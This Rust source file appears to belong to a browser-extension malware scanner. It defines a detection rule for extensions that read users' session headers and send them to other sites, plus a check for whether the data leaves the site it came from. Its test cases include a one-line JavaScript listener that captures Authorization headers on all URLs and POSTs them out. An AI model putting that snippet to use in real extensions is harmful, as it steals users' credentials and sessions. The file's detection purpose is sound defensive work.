//! `extension-headers-taken`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-headers-taken",
    description: "The extension reads users' sessions on other sites from their requests and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::HeadersSeen]),
        one(&[Atom::SecretHeader]),
        one(&[Atom::Request, Atom::Post, Atom::Beacon, Atom::Socket]),
    ],
    within: 250,
    only_if: Some(leave_their_site),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>{for(const h of d.requestHeaders)if(h.name.toLowerCase()==='authorization')fetch(u,{method:'POST',body:h.value})},{urls:['<all_urls>']},['requestHeaders'])",
        ],
        without: &[
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>{d.requestHeaders.push({name:'DNT',value:'1'});return {requestHeaders:d.requestHeaders}},f,['blocking'])",
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>({requestHeaders:d.requestHeaders.filter(h=>h.name!=='Cookie')}),f,['blocking'])",
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>{for(const h of d.requestHeaders)if(h.name.toLowerCase()==='authorization')auth=h.value},{urls:['https://api.social.example/*']},['requestHeaders']);async function block(i){await fetch('https://api.social.example/1/blocks?id='+i,{method:'POST',headers:{authorization:auth}})}",
        ],
    },
};

/// Whether they are read on all sites, or what is sent goes to another site than the one they are read on. Who helps with one site asks
/// that site with its own session.
fn leave_their_site(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 160);
    let sites: Vec<&str> = near.places().filter_map(|at| pattern(near.text_at(at)?)).take(8).collect();
    if sites.is_empty() || sites.iter().any(|site| site.is_empty()) {
        return true;
    }
    near.places().any(|at| {
        let host = near.text_at(at).filter(|text| !text.contains('*')).and_then(host_of);
        host.is_some_and(|host| sites.iter().all(|site| owner(site) != owner(host)))
            || near.word(at) == "WebSocket"
    })
}

/// The host of a pattern of addresses; empty for all of them.
fn pattern(text: &str) -> Option<&str> {
    if text == "<all_urls>" {
        return Some("");
    }
    let rest = text.strip_prefix("*://").or_else(|| host_of(text))?;
    let host = rest.split('/').next().unwrap_or(rest);
    text.contains('*').then(|| host.trim_start_matches("*.").trim_start_matches('*'))
}

fn host_of(text: &str) -> Option<&str> {
    let rest =
        ["https://", "http://", "wss://", "ws://"].iter().find_map(|scheme| text.strip_prefix(scheme))?;
    Some(rest.split(['/', '?', ':']).next().unwrap_or(rest))
}

/// The last two labels of a host.
fn owner(host: &str) -> &str {
    host.rmatch_indices('.').nth(1).map_or(host, |(dot, _)| &host[dot + 1..])
}
